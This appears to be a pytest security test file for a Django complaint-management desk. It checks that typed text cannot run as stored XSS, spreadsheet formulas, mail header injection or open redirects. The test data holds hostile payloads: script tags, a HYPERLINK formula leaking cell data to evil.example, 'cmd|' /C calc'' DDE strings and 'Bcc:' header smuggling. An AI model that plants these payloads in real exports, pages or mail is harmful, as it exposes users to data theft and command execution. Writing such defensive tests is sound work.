"""Stored XSS and formula injection (issue #7, hostile input): every free text a person can
write is rendered as text on every page, in every e-mail and in every export.

Threats: markup typed into a complaint, a duty-log line, a name or a report commentary runs in
the session of whoever opens the page (stored XSS); text starting with `=`, `+`, `-` or `@`
runs as a formula when the quality department opens the monthly export (CSV/Excel injection);
a line break in a name written into a mail subject smuggles headers or stops the mail queue."""

import csv
import io
from datetime import timedelta
from urllib.parse import urlencode

import openpyxl
import pytest
from django.contrib import admin
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from accounts.models import Branch
from accounts.roles import Role
from followups.models import Notification
from followups.notify import notify, send_pending
from reports.exports import DANGEROUS_FIRST
from reports.mail import send_branch_report
from reports.weekly import send_weekly_summaries
from reports.workflow import generate_report
from tests.factories import ComplaintFactory, OfficeFactory, staff
from tests.security.hostile_world import (
    EXEMPT,
    desk_models,
    free_text_fields,
    hostile_world,
    live_markup,
    shown_text,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def hostile():
    return hostile_world()


def _pages_of(hostile) -> list[tuple[str, str]]:
    """(who, url) of every desk page that shows what was typed."""
    c, report, branch_report = hostile.complaint, hostile.report, hostile.branch_report
    lookup = urlencode({"building": c.building_id, "room": c.room, "phone": c.phone})
    behind = [
        reverse("reports:behind", args=[report.pk, name]) + "?" + urlencode(query)
        for name, query in [
            ("received", {}),
            ("by_category", {"value": c.category.name}),
            ("by_building", {"value": c.building.name}),
        ]
    ]
    desk = [
        reverse("home"),
        reverse("complaints:intake"),
        reverse("complaints:intake") + f"?scan={hostile.scan.pk}",
        reverse("complaints:list"),
        reverse("complaints:list") + "?" + urlencode({"q": c.description[:100]}),
        reverse("complaints:detail", args=[c.pk]),
        reverse("complaints:recorded", args=[c.pk]),
        reverse("complaints:lookup") + "?" + lookup,
        reverse("complaints:dutylog"),
        reverse("complaints:scans"),
        reverse("followups:my_shift"),
        reverse("followups:inbox"),
    ]
    reports = [
        reverse("reports:archive"),
        reverse("reports:detail", args=[report.pk]),
        *behind,
    ]
    branch = [reverse("home"), reverse("reports:detail", args=[branch_report.pk])]
    return (
        [("assistant", url) for url in desk]
        + [("supervisor", url) for url in [*desk, *reports]]
        + [("manager", url) for url in [reverse("home"), *desk[3:], *reports]]
        + [("quality", url) for url in [*branch, reverse("reports:archive")]]
        + [("gm", url) for url in branch]
    )


def test_every_free_text_field_of_the_desk_carries_a_payload(hostile):
    """A field added later is poisoned too, or this names it (and EXEMPT must say why)."""
    poisoned = set(hostile.poisoned.markers.values())
    unpoisoned = [
        (model._meta.label, f.name)
        for model in desk_models()
        for f in free_text_fields(model)
        if (model._meta.label, f.name) not in poisoned
    ]
    assert unpoisoned == []
    assert all(reason for reason in EXEMPT.values())


def test_no_desk_page_runs_the_payloads(client, hostile):
    """Threat: markup typed into any free text runs as script on a desk page (stored XSS)."""
    ran = []
    for who, url in _pages_of(hostile):
        client.force_login(getattr(hostile, who))
        response = client.get(url)
        assert response.status_code == 200, (who, url, response.status_code)
        if live := live_markup(response.content.decode()):
            ran.append((who, url, live))
    assert ran == []


def test_the_payload_is_shown_as_text_not_dropped(client, hostile):
    """Escaped, not stripped: the assistant reads exactly what the caller said."""
    client.force_login(hostile.assistant)
    page = shown_text(client.get(reverse("complaints:detail", args=[hostile.complaint.pk])).text)
    assert hostile.complaint.description in page
    assert hostile.complaint.complainant_name in page


def _admin_urls(model, model_admin) -> list[str]:
    opts = model._meta
    urls = [reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")]
    first = model_admin.model._default_manager.order_by("pk").first()
    if first is not None:
        urls.append(reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[first.pk]))
    return urls


def test_no_admin_page_runs_the_payloads(client, hostile):
    """Every registered model's list and first row, as a superuser who sees every row."""
    client.force_login(hostile.root)
    urls = [reverse("admin:index")]
    for model, model_admin in admin.site._registry.items():
        urls += _admin_urls(model, model_admin)
    urls.append(
        reverse("admin:complaints_complaint_changelist")
        + "?"
        + urlencode({"q": hostile.complaint.complainant_name})
    )
    ran = []
    for url in urls:
        response = client.get(url)
        assert response.status_code in (200, 302), (url, response.status_code)
        if response.status_code == 200 and (live := live_markup(response.content.decode())):
            ran.append((url, live))
    assert ran == []


def test_the_login_page_does_not_run_a_hostile_next(client):
    """Threat: a login link carrying markup in `next` runs script on the login page."""
    response = client.get(reverse("login") + "?" + urlencode({"next": '"><script>x</script>'}))
    assert response.status_code == 200
    assert live_markup(response.content.decode()) == []


# --- e-mail -----------------------------------------------------------------------------


def _assert_mail_is_safe(message):
    assert "\n" not in message.subject and "\r" not in message.subject
    for content, mimetype in getattr(message, "alternatives", []):
        if mimetype == "text/html":
            assert live_markup(content) == []


def test_notification_mails_are_plain_text_with_one_line_subjects(hostile, settings):
    """Every notification of the hostile world is mailed: no HTML part to run, and a subject
    built from hostile names stays one header."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    for user in (
        hostile.assistant,
        hostile.supervisor,
        hostile.manager,
        hostile.quality,
        hostile.gm,
    ):
        type(user).objects.filter(pk=user.pk).update(email=f"{user.username[:8]}@example.com")
    # Rows the sender withholds (a digest to someone who is no supervisor) are not e-mailed.
    assert (
        send_pending()
        == Notification.objects.exclude(recipient__email="").filter(not_sent="").count()
    )
    assert mail.outbox
    for message in mail.outbox:
        _assert_mail_is_safe(message)
        assert message.content_subtype == "plain"


def test_a_line_break_in_a_title_does_not_stop_the_mail_queue(settings):
    """Threat: an office named "A\\nBcc: x" puts a header break in the digest's subject;
    Django refuses such a header (BadHeaderError), which used to fail every mail behind it."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    user = staff(Role.CUSTOMER_SUPERVISOR, email="supervisor@example.com")
    office = user.memberships.get().office
    figures = {"day": "2026-11-20", "open": 1, "urgent": 0, "major": 0, "late": 0}
    for key, name, total in (("a", "第一管理处\nBcc: evil@example.com", 1), ("b", "第二管理处", 2)):
        notify(user, Notification.Kind.DIGEST, key=key, place=office, office=name, total=total,
               **figures)  # fmt: skip
    assert send_pending() == 2
    subjects = [m.subject for m in mail.outbox]
    assert subjects[0].startswith("第一管理处 Bcc: evil@example.com，2026-11-20")
    assert subjects[1].startswith("第二管理处，2026-11-20")
    assert all("\n" not in subject for subject in subjects)


def test_the_weekly_summary_mail_carries_hostile_text_as_plain_text(hostile, settings):
    """R-RPT-2: the week's descriptions go into the body as they were typed, as text."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    type(hostile.manager).objects.filter(pk=hostile.manager.pk).update(email="manager@example.com")
    local = timezone.localtime(timezone.now(), hostile.office.zone)
    monday = (local + timedelta(days=7 - local.weekday())).replace(hour=9, minute=0)
    assert send_weekly_summaries(now=monday) == 1
    send_pending()
    (message,) = [m for m in mail.outbox if m.to == ["manager@example.com"]][-1:]
    _assert_mail_is_safe(message)
    assert message.content_subtype == "plain"


def test_the_branch_report_mail_keeps_headers_on_one_line(hostile, settings):
    """R-RPT-1: the branch's workbooks go to the quality department; a branch name with a line
    break stays in one subject and one attachment name, every cell neutralised."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    Branch.objects.filter(pk=hostile.branch.pk).update(name="第一分公司\r\nBcc: evil@example.com")
    type(hostile.quality).objects.filter(pk=hostile.quality.pk).update(email="qd@example.com")
    assert send_branch_report(hostile.branch_report.pk) == 1
    (message,) = mail.outbox
    _assert_mail_is_safe(message)
    for name, content, _mimetype in message.attachments:
        assert "\n" not in name and "\r" not in name
        _assert_workbook_is_inert(content)


# --- exports ------------------------------------------------------------------------------

FORMULAS = {
    "description": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "complainant_name": "+cmd|' /C calc'!A0",
    "address_note": "-2+3+cmd|' /C calc'!A0",
    "customer_request": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_report():
    """A month whose complaint, office, category and building all start like a formula."""
    office = OfficeFactory(name="=1+1 管理处")
    manager = staff(Role.OFFICE_MANAGER, office=office)
    received = timezone.now() - timedelta(minutes=30)
    complaint = ComplaintFactory(office=office, received_at=received, **FORMULAS)
    complaint.category.name = "=cmd|' /C calc'!A0"
    complaint.category.save()
    complaint.building.name = "\t=1+1"
    complaint.building.save()
    month = timezone.localtime(received, office.zone).date().replace(day=1)
    report, _created = generate_report(month=month, now=timezone.now(), office=office)
    return report, manager


def _assert_workbook_is_inert(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_FIRST), cell.value


def test_the_xlsx_export_runs_no_formula(client, formula_report):
    """Threat: a complaint's text runs as a formula when the monthly workbook is opened."""
    report, manager = formula_report
    client.force_login(manager)
    response = client.get(reverse("reports:xlsx", args=[report.pk]))
    assert response.status_code == 200
    _assert_workbook_is_inert(response.content)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))[str(_complaints_sheet())]
    texts = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert "'" + FORMULAS["description"] in texts  # kept whole, shown as text


def _complaints_sheet():
    from django.utils.translation import gettext, override

    with override("zh-hans"):
        return gettext("Complaints")


def test_the_csv_export_runs_no_formula(client, formula_report):
    """Threat: a complaint's text runs as a formula when the monthly CSV is opened."""
    report, manager = formula_report
    client.force_login(manager)
    response = client.get(reverse("reports:csv", args=[report.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(DANGEROUS_FIRST)]
    assert "'" + FORMULAS["complainant_name"] in cells


@pytest.mark.parametrize(
    "next_url", ["javascript:alert(1)", "//evil.example/", "https://evil.example/", "\\\\evil"]
)
def test_a_hostile_next_after_login_stays_on_the_desk(client, next_url):
    """A login link carrying `next=javascript:…` or another site would run script or hand the
    fresh session's user to a look-alike page; Django's check keeps the redirect at home."""
    user = staff(Role.CLIENT_ASSISTANT)
    response = client.post(
        reverse("login") + "?" + urlencode({"next": next_url}),
        {"username": user.username, "password": "correct-horse-battery", "next": next_url},
    )
    assert response.status_code == 302
    assert response.url == reverse("home")


def test_the_language_switch_does_not_follow_a_hostile_next(client):
    """Threat: the language switch redirects to `javascript:` or another site (open redirect)."""
    client.force_login(staff(Role.CLIENT_ASSISTANT))
    response = client.post(
        reverse("set_language"), {"language": "en", "next": "javascript:alert(1)"}
    )
    assert response.status_code == 302
    assert not response.url.lower().startswith(("javascript:", "//", "http"))


def test_a_long_office_name_does_not_stop_the_missing_report_alert():
    """R-RPT-1: the alert's deduplication key used to carry the office's name; an 80-character
    name overflowed the 80-character key and the job failed for every office of the desk."""
    from zoneinfo import ZoneInfo

    from reports.workflow import alert_missing_reports

    office = OfficeFactory(name="长" * 80)
    quality = staff(Role.QUALITY_DEPARTMENT, branch=office.branch)
    first = timezone.datetime(2026, 12, 1, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    assert alert_missing_reports(now=first) == 2  # the office's and the branch's report
    assert Notification.objects.filter(recipient=quality).count() == 2
    assert alert_missing_reports(now=first) == 0  # still once


def test_the_residents_tracking_page_and_mail_run_no_payload(client, hostile, settings):
    """Threat: what was typed at the desk (a contact's summary, the complainant's name) runs as
    script on the resident's public page, or forges a header of the resident's mail (#17)."""
    from complaints.models import Complaint
    from resident.links import issue_link
    from resident.mails import send_pending_mails, write_mail

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    complaint = hostile.complaint
    Complaint.objects.filter(pk=complaint.pk).update(email="resident@example.cn")
    complaint.refresh_from_db()
    _link, token = issue_link(complaint)
    response = client.get(reverse("resident:track", args=[token]))
    assert response.status_code == 200
    assert live_markup(response.content.decode()) == []
    write_mail(complaint, kind="state", key="hostile")
    assert send_pending_mails() >= 1
    for message in mail.outbox:
        _assert_mail_is_safe(message)
        assert message.content_subtype == "plain" and message.to == ["resident@example.cn"]
